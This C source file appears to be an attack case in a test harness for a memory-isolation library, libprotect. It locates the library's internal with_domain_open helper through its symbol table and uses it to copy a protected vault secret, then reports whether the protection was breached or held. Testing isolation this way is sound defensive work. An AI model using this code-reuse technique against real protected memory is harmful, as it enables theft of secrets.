/* Code reuse into libprotect itself: its internal helper that runs a
 * function with a domain open (with_domain_open), found in its symbol
 * table and called with the attacker's function. */
#define _GNU_SOURCE
#include "attack.h"

#include "libprotect_symbols.h"

static uint8_t stolen[VAULT_SECRET_LEN];

static uintptr_t steal(void *arg)
{
    memcpy(stolen, vault_address(VAULT_DATA)->secret, sizeof stolen);
    return 0;
}

int main(void)
{
    vault_open();
    void *at = libprotect_symbol("with_domain_open");
    if (!at)
        blocked("with_domain_open not found (a stripped libprotect only hides it)");
    uintptr_t (*with_domain_open)(int, uintptr_t (*)(void *), void *) = at;
    with_domain_open(0, steal, NULL);
    if (vault_matches(VAULT_DATA, stolen))
        breached("read the library's secret through libprotect's own helper");
    blocked("what was read is not the secret");
}
